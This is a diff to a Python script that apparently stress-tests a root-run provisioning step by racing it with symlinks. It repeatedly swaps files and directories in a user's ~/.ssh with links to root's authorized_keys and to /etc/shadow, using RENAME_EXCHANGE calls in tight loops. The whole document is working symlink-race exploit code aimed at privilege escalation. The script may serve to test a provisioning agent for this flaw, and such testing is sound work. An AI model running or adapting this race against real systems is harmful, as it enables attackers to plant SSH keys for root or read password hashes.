@@ -11,19 +11,21 @@ import os
 import random
 import shutil
 import sys
+import time
 from pathlib import Path
 
 _libc = ctypes.CDLL(None, use_errno=True)
 HERE = -100  # AT_FDCWD
 EXCHANGE = 2  # RENAME_EXCHANGE
 KEYS = "authorized_keys"
-# Behind the home: what a link in ~ or in ~/.ssh points to.
-VICTIM = "../../root/.ssh"
+# What a link leads to, where root follows it: files of root.
+IMAGE = os.path.dirname(os.path.dirname(sys.argv[1]))
+VICTIM = f"{IMAGE}/root/.ssh"
 LINKS = {
-    KEYS: f"../{VICTIM}/{KEYS}",
-    f".{KEYS}.azready": f"../{VICTIM}/{KEYS}",
-    ".new": f"../{VICTIM}/{KEYS}",
-    "x": "../../../etc/shadow",
+    KEYS: f"{VICTIM}/{KEYS}",
+    f".{KEYS}.azready": f"{VICTIM}/{KEYS}",
+    ".new": f"{VICTIM}/{KEYS}",
+    "x": f"{IMAGE}/etc/shadow",
 }
 
 
@@ -75,27 +77,44 @@ def file_for_link() -> None:
     """The file and a link to root's change places all the time."""
     real_folder()
     with contextlib.suppress(OSError):
-        os.symlink(f"../{VICTIM}/{KEYS}", ".ssh/other")
+        os.symlink(f"{VICTIM}/{KEYS}", ".ssh/other")
     for _ in range(random.randint(1, 3000)):
         exchange(f".ssh/{KEYS}", ".ssh/other")
 
 
 def new_name() -> None:
-    """Whatever appears in ~/.ssh, or ~/.ssh itself, is exchanged at once."""
-    forget(".ssh") if random.random() < 0.3 else real_folder()
-    links_in("other")
+    """Whatever appears in ~/.ssh is exchanged for a link, or a directory of links, at once.
+
+    These lie in ~/.ssh, too: a directory of root's cannot be moved to another one.
+    """
+    clean()
+    real_folder()
+    links_in(".ssh/folder")
     with contextlib.suppress(OSError):
-        os.symlink(VICTIM, "link")
-    had = os.path.lexists(".ssh")
-    for _ in range(3000):
-        if not had and os.path.lexists(".ssh"):
-            exchange(".ssh", "link")
-            return
+        os.symlink(f"{VICTIM}/{KEYS}", ".ssh/link")
+    while True:
         with contextlib.suppress(OSError):
             for name in os.listdir(".ssh"):
-                if name != KEYS:
-                    exchange(f".ssh/{name}", "other" if os.path.isdir(f".ssh/{name}") else f"other/{KEYS}")
+                if name not in (KEYS, "folder", "link"):
+                    exchange(f".ssh/{name}", ".ssh/folder" if os.path.isdir(f".ssh/{name}") else ".ssh/link")
+                    time.sleep(0.4)
                     return
+
+
+def new_folder() -> None:
+    """~/.ssh is exchanged for a link as soon as it is made."""
+    clean()
+    with contextlib.suppress(OSError):
+        os.symlink(VICTIM, "other")
+    while not os.path.lexists(".ssh"):
+        pass
+    exchange(".ssh", "other")
+    time.sleep(0.4)
+
+
+def clean() -> None:
+    for name in os.listdir("."):
+        forget(name)
 
 
 if __name__ == "__main__":
@@ -108,5 +127,4 @@ if __name__ == "__main__":
     while True:
         way()
         if random.random() < 0.1:
-            for name in os.listdir("."):
-                forget(name)
+            clean()
